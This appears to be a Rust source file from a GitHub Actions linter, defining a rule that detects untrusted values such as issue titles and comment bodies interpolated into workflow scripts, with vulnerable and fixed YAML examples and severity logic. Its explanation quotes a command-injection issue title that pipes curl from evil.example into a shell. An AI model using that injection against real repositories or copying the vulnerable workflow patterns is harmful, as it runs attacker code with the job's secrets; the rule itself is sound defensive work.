//! A value that others write becomes part of a script.

use std::collections::HashSet;

use super::{
    agent::Agents,
    author::{Author, Authors},
    gate::Events,
    injection::{self, Injection},
    mend, trigger,
};
use crate::{
    report::finding::{self, Severity},
    validate::{
        Example, Report, Rule,
        github::{Workflow, view::Expression},
        rule::Check,
    },
};

pub(super) static RULE: Rule = Rule {
    about: finding::Rule {
        id: "workflow-template-injection",
        summary: "A value that others write becomes part of a script",
        help: "Put it into the step's `env:` and write `\"$NAME\"` in the script.",
        severity: Severity::Error,
        page: "docs/rules/workflow-template-injection.md",
    },
    why: "GitHub puts the text of `${{ }}` into the script before any shell sees it. An issue's \
          title of `\"; curl evil.example | sh; \"` is then no title but a command, run with the \
          job's token and secrets. The same holds for the name of a branch, for \
          `toJSON(github.event)`, and for a variable that is written `${{ env.NAME }}`: only \
          `\"$NAME\"` keeps a value a value.\n\nIt is an error where anybody can start the job \
          and nothing asks who did; a warning where that is less plain, and for inputs that \
          callers may fill with anything; a note for values of people who may push.",
    bad: &[
        Example {
            path: ".github/workflows/triage.yml",
            text: flow!("issues"
                "    steps:\n"
                "      - run: echo \"triaging ${{ github.event.issue.title }}\"\n"
            ),
        },
        Example {
            path: ".github/workflows/triage.yml",
            text: flow!("issue_comment"
                "    env:\n"
                "      BODY: ${{ github.event.comment.body }}\n"
                "    steps:\n"
                "      - run: echo \"${{ env.BODY }}\"\n"
            ),
        },
        Example {
            path: ".github/workflows/triage.yml",
            text: flow!("issues"
                "    steps:\n"
                "      - uses: actions/github-script@ed597411d8f924073f98dfc5c65a23a2325f34cd # v8.0.0\n"
                "        with:\n"
                "          script: core.info(`${{ toJSON(github.event) }}`)\n"
            ),
        },
        Example {
            path: ".github/workflows/greet.yml",
            text: flow!("{workflow_call: {inputs: {who: {type: string}}}}"
                "    steps:\n"
                "      - run: echo Hello ${{ inputs.who }}\n"
            ),
        },
    ],
    good: &[
        Example {
            path: ".github/workflows/triage.yml",
            text: flow!("issues"
                "    steps:\n"
                "      - env:\n"
                "          TITLE: ${{ github.event.issue.title }}\n"
                "        run: echo \"triaging $TITLE\"\n"
            ),
        },
        Example {
            path: ".github/workflows/triage.yml",
            text: flow!("issues"
                "    steps:\n"
                "      - uses: actions/github-script@ed597411d8f924073f98dfc5c65a23a2325f34cd # v8.0.0\n"
                "        with:\n"
                "          script: core.info(context.payload.issue.title)\n"
            ),
        },
    ],
    check: Check::Workflow(check),
};

fn check(workflow: &Workflow<'_>, report: &mut Report<'_>) {
    let authors = Authors::of_workflow(workflow);
    let step = |expression: &Expression<'_>| {
        workflow
            .jobs
            .get(expression.job?)?
            .steps
            .get(expression.step?)
    };
    let open = Events::named(trigger::by_anyone(workflow).map(|it| it.name));
    let found = injection::find(&workflow.expressions, &authors, step);
    let source = workflow.subject.source;
    // What an alias repeats is said once.
    let mut seen = HashSet::new();
    for of_step in found.chunk_by(|a, b| std::ptr::eq(a.step, b.step)) {
        if !of_step
            .iter()
            .all(|it| seen.insert(it.expression.at(source).start))
        {
            continue;
        }
        let job = of_step
            .first()
            .and_then(|first| workflow.jobs.get(first.expression.job?));
        let mut edits = job.map_or_else(Vec::new, |job| mend::edits(workflow, job, of_step));
        for injection in of_step {
            let at = injection
                .expression
                .range(source, injection.foreign.at.clone());
            let problem = report.at(&RULE, at, injection.message());
            problem.severity(severity(workflow, injection, open));
            if let Some(help) = injection.help() {
                problem.help(help);
            }
            problem.fix(std::mem::take(&mut edits));
        }
    }
}

fn severity(workflow: &Workflow<'_>, injection: &Injection<'_, '_>, open: Events) -> Severity {
    let expression = injection.expression;
    let gates = expression.job.and_then(|job| Agents::gates(workflow, job));
    let kept_out = gates
        .zip(expression.step)
        .map_or_else(Events::default, |(gates, step)| gates.step(step));
    match injection.foreign.author {
        Author::Anyone if !kept_out.has(open) => Severity::Error,
        Author::Anyone | Author::Caller => Severity::Warning,
        Author::Writer => Severity::Note,
    }
}
